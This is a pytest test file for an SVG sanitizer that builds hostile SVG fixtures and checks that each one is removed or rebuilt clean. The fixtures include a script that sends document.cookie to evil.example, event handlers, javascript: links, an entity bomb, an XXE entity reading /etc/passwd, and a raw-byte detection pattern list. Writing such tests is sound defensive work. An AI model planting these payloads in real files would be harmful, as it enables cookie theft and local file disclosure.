"""SVG sanitizer: the contract, plus each way an SVG runs script or reaches out.

Fixtures are built here: script, onload and other handlers, foreignObject with HTML,
external and javascript: hrefs (SVG 2 ``href`` and ``xlink:href``), ``<use>`` of another file,
CSS imports and url(), an xml-stylesheet instruction, an entity bomb, and a data: picture with
bytes appended."""

from __future__ import annotations

import base64
import io
import re
from collections.abc import Sequence

import pytest
from lxml import etree
from PIL import Image

from sanitizers.cdr.svg import find_dangerous, parse_svg
from sanitizers.errors import SanitizeError
from sanitizers.vocabulary import Action, Reason
from tests.sanitizers.cdr.contract import Case, CdrContract

BENIGN = "市役所の案内図"
HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'width="100" height="50">'
)


def svg(body: str, *, head: str = HEAD, root_attributes: str = "") -> bytes:
    return (
        head.replace('height="50"', f'height="50" {root_attributes}') + body + "</svg>"
    ).encode()


def png_url(appended: bytes = b"") -> str:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), (0, 90, 200)).save(out, "PNG")
    return "data:image/png;base64," + base64.b64encode(out.getvalue() + appended).decode()


TEXT = f'<text x="5" y="20">{BENIGN}</text>'
HOSTILE = {
    "script": (svg(TEXT + "<script>fetch('http://evil.example/'+document.cookie)</script>"),
               {"javascript"}),
    "onload": (svg(TEXT + '<rect width="5" height="5" onclick="alert(1)"/>',
                   root_attributes='onload="alert(document.domain)"'), {"event_handler"}),
    "foreign-object": (svg(TEXT + '<foreignObject width="90" height="40"><body xmlns="http://'
                           'www.w3.org/1999/xhtml"><iframe src="http://evil.example/"/></body>'
                           "</foreignObject>"), {"foreign_object"}),
    "external-image": (svg(TEXT + '<image href="http://evil.example/beacon.png" width="9" '
                           'height="9"/><image xlink:href="file://attacker/share/x.png"/>'),
                       {"external_relationship"}),
    "use-external": (svg(TEXT + '<use href="http://evil.example/sprites.svg#icon"/>'
                         '<use xlink:href="other.svg#x"/>'), {"external_relationship"}),
    "javascript-link": (svg(f'<a xlink:href="javascript:alert(1)">{TEXT}</a>'), {"hyperlink"}),
    "animated-href": (svg(f'<a href="#top">{TEXT}<set attributeName="href" '
                          'to="javascript:alert(1)"/></a>'), {"event_handler"}),
    "css": (svg(TEXT + "<style>@import url(http://evil.example/a.css); rect {fill: "
                'url("http://evil.example/p.svg#g")}</style>'
                '<rect width="5" height="5" style="fill:url(//evil.example/x#y)"/>'),
            {"external_relationship"}),
    "stylesheet-pi": (svg(TEXT, head='<?xml version="1.0"?><?xml-stylesheet type="text/css" '
                          'href="http://evil.example/s.css"?>' + HEAD[HEAD.index("<svg"):]),
                      {"external_relationship"}),
    "data-picture": (svg(TEXT + f'<image href="{png_url(b"MZ appended program")}"/>'),
                     {"trailing_data"}),
}  # fmt: skip


def independent_markers(data: bytes) -> set[str]:
    """Raw-byte markers, sharing nothing with the sanitizer's parser (handlers and script URLs
    in a tag; the same words as escaped text are only text)."""
    patterns = (
        rb"<script", rb"<[^>]*\son[a-z]+\s*=", rb"foreignObject", rb"evil\.example",
        rb"<[^>]*javascript:",
        rb"other\.svg", rb"file://", rb"@import", rb"xml-stylesheet",
    )  # fmt: skip
    return {p.decode() for p in patterns if re.search(p, data, re.IGNORECASE)}


class TestSvgContract(CdrContract):
    kind = "svg"
    keep_if_clean_rebuilds = True

    def hostile_cases(self) -> Sequence[Case]:
        return [
            Case(name, data, f"{name}.svg", frozenset(codes), text=(BENIGN,))
            for name, (data, codes) in HOSTILE.items()
        ]

    def clean_cases(self) -> Sequence[Case]:
        clean = svg(
            '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>'
            '<symbol id="s"><circle r="3"/></symbol></defs>'
            f'<rect width="9" height="9" fill="url(#g)"/><use href="#s"/>{TEXT}'
            f'<image href="{png_url()}" width="4" height="4"/><title>地図</title>'
        )
        return [Case("drawing", clean, "map.svg", text=(BENIGN, "地図"), detectable=False)]

    def bomb_cases(self) -> Sequence[Case]:
        lol = (
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
            + b"".join(f'<!ENTITY {c * 2} "{("&" + c + ";") * 10}">'.encode() for c in "bcdefgh")
            + b']><svg xmlns="http://www.w3.org/2000/svg"><text>&hh;</text></svg>'
        )
        xxe = (
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
        )
        return [
            Case("entity-bomb", lol, "bomb.svg", action=Action.REMOVED),
            Case("external-entity", xxe, "xxe.svg", action=Action.REMOVED),
        ]

    def dangerous_items(self, data: bytes) -> set[str]:
        found = independent_markers(data)
        try:
            found |= find_dangerous(data)
        except SanitizeError as exc:
            found.add(exc.reason.value)
        return found

    def assert_parses(self, data: bytes) -> None:
        parse_svg(data)

    def extract_text(self, data: bytes) -> str:
        return "".join(str(t) for t in parse_svg(data).itertext())


def test_stylesheet_instruction_and_doctype_are_dropped() -> None:
    data = svg(TEXT, head='<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
               '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><?xml-stylesheet '
               'href="http://evil.example/s.css"?>' + HEAD[HEAD.index("<svg"):])  # fmt: skip
    outcome = TestSvgContract().run(data, "a.svg")
    assert outcome.action == Action.SANITIZED
    assert outcome.data is not None
    assert b"DOCTYPE" not in outcome.data
    assert b"stylesheet" not in outcome.data


def test_an_internal_dtd_removes_the_file() -> None:
    with pytest.raises(SanitizeError) as caught:
        parse_svg(b'<!DOCTYPE svg [<!ENTITY e "x">]><svg xmlns="http://www.w3.org/2000/svg"/>')
    assert caught.value.reason == Reason.MALFORMED


def test_the_data_picture_is_reencoded() -> None:
    data, _codes = HOSTILE["data-picture"]
    outcome = TestSvgContract().run(data, "a.svg")
    assert outcome.data is not None
    image = next(etree.fromstring(outcome.data).iter("{*}image"))
    raw = base64.b64decode(str(image.get("href")).split(",", 1)[1])
    assert raw.startswith(b"\x89PNG")
    assert b"MZ" not in raw


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_verification_catches_each_kind(name: str) -> None:
    data, _codes = HOSTILE[name]
    try:
        found = find_dangerous(data)
    except SanitizeError:
        return
    if name == "data-picture":
        return  # caught by decoding the picture (test_the_data_picture_is_reencoded)
    assert found, name


def test_the_corpus_svg_attacks_come_out_clean() -> None:
    """The SVG attack samples of ../shared/corpus (svg-sanitizer's tests and corkami's): each
    is removed or rebuilt without anything the raw-byte look or the verification finds."""
    from tests.corpus import CORPUS

    files = sorted(CORPUS.glob("**/*.svg")) if CORPUS.is_dir() else []
    if not files:
        pytest.skip(f"no SVG files in the corpus at {CORPUS} (it lives beside the project)")
    contract = TestSvgContract()
    for path in files:
        outcome = contract.run(path.read_bytes(), path.name)
        if outcome.action == Action.REMOVED:
            continue
        assert outcome.action == Action.SANITIZED, (path, outcome)
        assert outcome.data is not None
        assert contract.dangerous_items(outcome.data) == set(), path
